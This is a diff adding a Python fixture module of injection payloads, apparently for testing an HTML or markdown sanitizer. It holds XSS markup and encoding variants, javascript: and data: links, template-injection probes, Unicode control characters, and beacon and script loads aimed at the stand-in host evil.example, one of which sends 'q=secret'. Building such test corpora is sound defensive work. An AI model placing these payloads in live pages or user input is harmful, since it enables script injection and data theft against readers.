@@ -1,0 +1,80 @@
+"""Texts that try to become something else on the page of whoever reads them.
+
+Each calls ``canary()`` when it runs, names ``evil.example`` when it wants to load something, and
+carries ``data-canary`` when it wants to become an element.
+"""
+
+MARKUP = [
+    "<script data-canary>canary()</script>",
+    "<ScRiPt data-canary>canary()</sCrIpT>",
+    "</script><script data-canary>canary()</script>",
+    "</title><script data-canary>canary()</script>",
+    "</textarea><script data-canary>canary()</script>",
+    "</style><script data-canary>canary()</script>",
+    "<script data-canary src=https://evil.example/x.js></script>",
+    "<img data-canary src=x onerror=canary()>",
+    '"><img data-canary src=x onerror=canary()>',
+    "'><img data-canary src=x onerror=canary()>",
+    "<img data-canary src=https://evil.example/beacon?q=secret>",
+    "<svg data-canary onload=canary()>",
+    "<svg data-canary><script>canary()</script></svg>",
+    "<svg data-canary><animate onbegin=canary() attributeName=x dur=1s>",
+    "<svg data-canary><use href=https://evil.example/x.svg#y></svg>",
+    "<math data-canary><mtext><table><mglyph><style><img src=x onerror=canary()>",
+    "<math data-canary href=javascript:canary()>click</math>",
+    "<iframe data-canary srcdoc='<script>parent.canary()</script>'></iframe>",
+    "<iframe data-canary src=javascript:parent.canary()></iframe>",
+    "<object data-canary data=javascript:canary()></object>",
+    "<embed data-canary src=https://evil.example/x.swf>",
+    "<link data-canary rel=stylesheet href=https://evil.example/x.css>",
+    "<style data-canary>@import 'https://evil.example/x.css';</style>",
+    "<base data-canary href=https://evil.example/>",
+    "<meta data-canary http-equiv=refresh content=0;url=https://evil.example/>",
+    "<form data-canary action=https://evil.example/><input name=q autofocus onfocus=canary()>",
+    "<details data-canary open ontoggle=canary()>",
+    "<video data-canary src=x onerror=canary()></video>",
+    "<body data-canary onload=canary()>",
+    "<a data-canary href=javascript:canary()>click</a>",
+    "<p data-canary style=background:url(https://evil.example/x.png)>",
+    "<noscript><p title='</noscript><img data-canary src=x onerror=canary()>'>",
+    "<template data-canary><img src=x onerror=canary()></template>",
+    "<div data-canary x-data x-init=canary()>",
+    "<div data-canary hx-get=https://evil.example/ hx-trigger=load>",
+    "<div data-canary hx-on:htmx:load=canary()>",
+    "<!--><img data-canary src=x onerror=canary()>-->",
+    "<<script data-canary>canary()//<</script>",
+    "&lt;script data-canary&gt;canary()&lt;/script&gt;",
+    "&#60;img data-canary src=x onerror=canary()&#62;",
+]
+MARKDOWN = [
+    "[click](javascript:canary())",
+    "[click](JaVaScRiPt:canary())",
+    "[click](&#106;avascript:canary())",
+    "[click](java\tscript:canary())",
+    "[click](data:text/html,<script>canary()</script>)",
+    "[click](vbscript:canary())",
+    "![beacon](https://evil.example/beacon.png)",
+    "![beacon][1]\n\n[1]: https://evil.example/beacon.png",
+    "<javascript:canary()>",
+    '[click](https://good.example "onmouseover=canary()")',
+    '[a](https://good.example/"onmouseover=canary())',
+    "`<img data-canary src=x onerror=canary()>`",
+    "```html\n<script data-canary>canary()</script>\n```",
+    "> <img data-canary src=x onerror=canary()>",
+]
+TEMPLATES = [
+    "{{7*7}}",
+    "{% debug %}",
+    "{0.__class__}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "%(name)s",
+]
+SIGNS = [
+    "\u202e)(yranac<\u202c",
+    "zero\u200bwidth\u200d\ufeff",
+    "\u2028canary()\u2029",
+    "\x7f\x1b[31m",
+]
+PAYLOADS = [*MARKUP, *MARKDOWN, *TEMPLATES, *SIGNS]
